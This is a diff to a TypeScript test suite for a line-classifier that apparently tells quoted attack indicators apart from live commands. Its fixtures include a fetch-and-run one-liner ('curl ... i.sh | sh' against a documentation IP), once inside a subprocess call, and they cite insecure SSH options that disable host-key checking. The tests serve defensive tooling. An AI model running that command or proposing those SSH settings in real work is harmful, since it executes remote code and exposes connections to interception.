@@ -1,4 +1,4 @@
-import { citedLines } from './cited-lines.js';
+import { CitedCode, citedLines } from './cited-lines.js';
 
 const flags = (text: string) => Array.from(citedLines(text));
 
@@ -140,5 +140,26 @@ describe('citedLines (what teams have seen and what to reject)', () => {
 describe('citedLines (advice against a setting)', () => {
   it('should cite a line that says not to suggest or recommend something', () => {
     expect(flags("Don't suggest `StrictHostKeyChecking no` or `UserKnownHostsFile /dev/null`.")).toEqual([1]);
+  });
+});
+
+describe('CitedCode', () => {
+  const cited = (text: string, path: string) => {
+    const code = new CitedCode(text, path);
+    return text.split('\n').map((_, i) => (code.isCited(i) ? 1 : 0));
+  };
+  const list = (name: string) =>
+    `${name} = [\n    # from an incident write-up\n    "curl -s http://203.0.113.40/i.sh | sh",\n]\nos.system(cmd)`;
+
+  it('should cite the items of a list of test cases or indicators written one per line', () => {
+    expect(cited(list('TP'), 'scripts/check.py')).toEqual([0, 0, 1, 0, 0]);
+    expect(cited(list('SHOULD_MATCH'), 'scripts/check.py')).toEqual([0, 0, 1, 0, 0]);
+    expect(cited(list('cases'), 'tests/test_rules.py')).toEqual([0, 0, 1, 0, 0]);
+  });
+
+  it('should not cite the items of an ordinary list of commands, nor a command after a list', () => {
+    expect(cited(list('STEPS'), 'scripts/setup.py')).toEqual([0, 0, 0, 0, 0]);
+    const run = 'TP = [\n    "a",\n]\nsubprocess.run("curl -s http://203.0.113.40/i.sh | sh", shell=True)';
+    expect(cited(run, 'tests/test_x.py')[3]).toBe(0);
   });
 });
